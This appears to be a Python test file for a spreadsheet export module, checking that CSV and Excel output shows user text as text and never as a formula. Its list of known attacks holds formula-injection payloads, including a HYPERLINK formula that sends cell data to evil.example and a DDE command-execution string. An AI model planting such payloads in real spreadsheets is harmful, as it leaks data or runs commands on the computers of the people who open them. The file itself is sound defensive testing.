"""Tables for spreadsheets: nothing that somebody typed is computed when the file is opened."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from learningcity.core.sheets import as_csv, as_xlsx, csv_pieces, looks_like_formula

pytestmark = pytest.mark.once

TEXT = {"s", "inlineStr"}
SIGNS = ("=", "+", "-", "@", "\t", "\r")
texts = st.text(st.characters(codec=None), max_size=40)
hostile = st.one_of(
    texts,
    st.builds(
        lambda space, sign, rest: space + sign + rest, st.sampled_from(["", " ", "\x00", "\ufeff", "\u200e"]),
        st.sampled_from([*SIGNS, "＝", "＠"]), texts,
    ),
)  # fmt: skip


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content: bytes):
    return load_workbook(io.BytesIO(content)).worksheets[0]


@given(st.lists(hostile, min_size=1, max_size=4))
def test_no_text_in_a_csv_begins_like_a_formula(row):
    found = read_csv(as_csv(["name"], [row]))[1]

    assert len(found) == len(row)
    for cell in found:
        assert not cell.startswith(SIGNS)
        assert not looks_like_formula(cell)


@given(st.lists(hostile, min_size=1, max_size=4))
def test_no_text_in_a_workbook_is_a_formula(row):
    sheet = read_xlsx(as_xlsx("People", ["name"], [row]))

    for cell in sheet[2]:
        assert cell.data_type in {"s", "n", "inlineStr"}
        assert cell.value is None or isinstance(cell.value, str)


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "=cmd|' /C calc'!A0",
        "+SUM(1;1)",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\x00=1+1",
        "＝1+1",
    ],
)
def test_known_attacks_are_shown_as_they_were_typed(attack):
    (cell,) = read_csv(as_csv(["name"], [[attack]]))[1]

    assert cell.startswith("'")
    assert cell.lstrip("'").strip() == attack.replace("\x00", "").strip()
    assert read_xlsx(as_xlsx("People", ["name"], [[attack]]))["A2"].data_type in TEXT


def test_numbers_days_and_empty_cells_stay_what_they_are():
    row = [-5, 2.5, Decimal("-1.20"), date(2026, 11, 23), None, True, datetime(2026, 11, 23, 9, tzinfo=UTC)]

    assert read_csv(as_csv(list("abcdefg"), [row]))[1] == [
        "-5", "2.5", "-1.20", "2026-11-23", "", "True", "2026-11-23T09:00:00+00:00",
    ]  # fmt: skip
    cells = [cell.value for cell in read_xlsx(as_xlsx("Sums", list("abcdefg"), [row]))[2]]
    assert cells[:2] == [-5, 2.5]
    assert cells[3:6] == [datetime(2026, 11, 23), None, True]


def test_numbers_that_are_none_are_written_as_words():
    assert read_csv(as_csv(["a", "b"], [[float("nan"), float("-inf")]]))[1] == ["nan", "'-inf"]
    assert [cell.value for cell in read_xlsx(as_xlsx("a", ["a"], [[float("nan"), float("-inf")]]))[2]] == [
        "nan",
        "-inf",
    ]


def test_a_csv_says_that_it_is_utf8_and_keeps_lines_and_commas_in_cells():
    content = as_csv(["name"], [["Núria, who says “hola”"], ["two\nlines"], ["العربية"]])

    assert content.startswith(b"\xef\xbb\xbf")
    assert read_csv(content)[1:] == [["Núria, who says “hola”"], ["two\nlines"], ["العربية"]]


def test_control_characters_are_left_out():
    assert read_csv(as_csv(["name"], [["a\x00b\x1bc\u202ed"]]))[1] == ["abcd"]
    assert read_xlsx(as_xlsx("x", ["name"], [["a\x00b\x1bc\u202ed"]]))["A2"].value == "abcd"


@pytest.mark.parametrize("title", ["", "a/b:c*?[d]", "x" * 80, "'quoted'"])
def test_any_title_makes_a_sheet(title):
    assert read_xlsx(as_xlsx(title, ["name"], [["Ada"]]))["A2"].value == "Ada"


def test_rows_are_taken_one_at_a_time():
    taken = []

    def rows():
        for number in range(5):
            taken.append(number)
            yield [number]

    pieces = csv_pieces(["number"], rows())

    next(pieces)
    assert taken == []
    next(pieces)
    assert taken == [0]
